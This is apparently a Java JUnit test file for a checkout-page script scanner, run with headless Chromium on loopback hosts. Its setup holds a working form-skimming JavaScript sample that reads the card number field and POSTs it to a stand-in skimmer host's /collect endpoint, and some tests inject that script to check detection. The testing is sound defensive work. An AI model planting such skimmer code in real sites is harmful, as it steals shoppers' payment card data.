package dev.mimamori.storefront;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.mimamori.model.Severity;
import dev.mimamori.storefront.PageCheck.Finding;
import dev.mimamori.storefront.PageInventory.Request;
import dev.mimamori.storefront.PageInventory.Script;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Real headless Chromium against a shop and a skimmer host, both on loopback. */
class InventoryTakerTest {
  static Chromium chromium;
  static Shop shop;
  static Shop skimmer;
  static InventoryTaker taker;

  @BeforeAll
  static void start() throws Exception {
    assumeTrue(Chromium.available(), "needs /usr/bin/chromium and /usr/bin/chromedriver");
    shop = new Shop("127.0.0.1");
    // Another loopback address is another host to the browser.
    skimmer = new Shop("127.0.0.2");
    chromium = Chromium.start(Duration.ofSeconds(20));
    taker = new InventoryTaker(chromium, Duration.ofMillis(1500), InventoryTaker.TestData.DEFAULT);
    shop.script("/app.js", "document.title = 'Checkout';");
    skimmer.script(
        "/skim.js",
        """
        document.addEventListener('change', (e) => {
          const card = document.querySelector('[name=card_number]').value;
          if (card.length >= 16) {
            fetch('%s/collect', { method: 'POST', mode: 'no-cors', body: 'c=' + card });
          }
        }, true);
        """
            .formatted(skimmer.origin()));
  }

  @AfterAll
  static void stop() {
    if (chromium != null) {
      chromium.close();
    }
    if (shop != null) {
      shop.close();
      skimmer.close();
    }
  }

  static String checkout(String extraHead) {
    return """
        <!doctype html><html><head><title>Shop</title>
        <script src="/app.js"></script>
        <script>var shop = { currency: 'JPY' };</script>
        %s
        </head><body>
        <form action="/pay" method="post">
          <input name="email" type="email" autocomplete="email">
          <input name="card_number" autocomplete="cc-number">
          <input name="exp" placeholder="MM/YY">
          <input name="cvc">
          <input name="password" type="password">
          <button>Pay</button>
        </form>
        </body></html>
        """
        .formatted(extraHead);
  }

  PageInventory inventory(String html) {
    shop.page("/checkout", html);
    return taker.take(shop.origin() + "/checkout");
  }

  PageInventory clean() {
    return inventory(checkout(""));
  }

  PageInventory skimmed() {
    return inventory(checkout("<script src=\"" + skimmer.origin() + "/skim.js\"></script>"));
  }

  @Test
  void sameOriginScriptIsListedWithTheHashOfItsBody() {
    PageInventory p = clean();

    assertThat(p.scripts())
        .contains(
            new Script(
                shop.origin() + "/app.js",
                InventoryTaker.sha256("document.title = 'Checkout';"),
                false,
                shop.host(),
                false,
                "document.title = 'Checkout';".length()));
  }

  @Test
  void inlineScriptIsListedWithItsHash() {
    PageInventory p = clean();

    assertThat(p.scripts())
        .filteredOn(Script::inline)
        .extracting(Script::hash)
        .containsExactly(InventoryTaker.sha256("var shop = { currency: 'JPY' };"));
  }

  @Test
  void formFieldsAreClassified() {
    PageInventory p = clean();

    assertThat(p.forms().get(0).fields())
        .extracting(PageInventory.Field::kind)
        .containsExactly(
            FieldKind.LOGIN,
            FieldKind.CARD_NUMBER,
            FieldKind.EXPIRY,
            FieldKind.CVV,
            FieldKind.PASSWORD);
  }

  @Test
  void cleanPageSendsNothingSensitiveAfterTyping() {
    PageInventory p = clean();

    assertThat(p.afterInput()).noneMatch(Request::carriesSensitiveData);
  }

  @Test
  void skimmerThatFiresOnInputIsCaughtSendingTheCardToItsHost() {
    PageInventory p = skimmed();

    assertThat(p.afterInput())
        .filteredOn(Request::carriesSensitiveData)
        .extracting(Request::url, Request::host, Request::method)
        .isNotEmpty()
        .containsOnly(
            org.assertj.core.groups.Tuple.tuple(
                skimmer.origin() + "/collect", "127.0.0.2", "POST"));
  }

  @Test
  void checkAgainstCleanBaselineReportsCriticalNamingScriptAndHost() {
    PageInventory baseline = clean();
    PageInventory now = skimmed();

    PageCheck.Report r = PageCheck.compare(baseline, now, Set.of());

    assertThat(r.findings().get(0))
        .isEqualTo(
            new Finding(
                Severity.CRITICAL,
                "sensitive_data_sent",
                skimmer.origin() + "/skim.js",
                "127.0.0.2",
                r.findings().get(0).message()));
  }

  @Test
  void requestToHostThatDoesNotResolveIsRecordedAsFailed() {
    PageInventory p = inventory(checkout("<script src=\"http://skimmer.invalid/x.js\"></script>"));

    assertThat(p.requests())
        .filteredOn(r -> r.host().equals("skimmer.invalid"))
        .extracting(Request::failed, Request::error)
        .containsExactly(org.assertj.core.groups.Tuple.tuple(true, "net::ERR_NAME_NOT_RESOLVED"));
  }

  @Test
  void editedInlineScriptIsReportedAsChanged() {
    PageInventory baseline = clean();
    PageInventory now = inventory(checkout("").replace("currency: 'JPY'", "currency: 'JPY', x: 1"));

    List<Finding> f = PageCheck.compare(baseline, now, Set.of()).findings();

    assertThat(f)
        .extracting(Finding::kind, Finding::severity)
        .containsExactly(org.assertj.core.groups.Tuple.tuple("changed_script", Severity.HIGH));
  }

  @Test
  void cspHeaderOfTheMainDocumentIsRecorded() {
    shop.page("/csp", checkout(""), "default-src 'self'");

    PageInventory p = taker.take(shop.origin() + "/csp");

    assertThat(p.csp().header()).isEqualTo("default-src 'self'");
  }

  @Test
  void scriptInsertedByAnotherScriptIsMarkedAsAdded() {
    PageInventory p =
        inventory(
            checkout(
                "<script>const s = document.createElement('script'); s.src = '"
                    + skimmer.origin()
                    + "/skim.js'; document.head.appendChild(s);</script>"));

    assertThat(p.scripts())
        .filteredOn(s -> s.src().endsWith("/skim.js"))
        .extracting(Script::addedByScript)
        .containsExactly(true);
  }
}
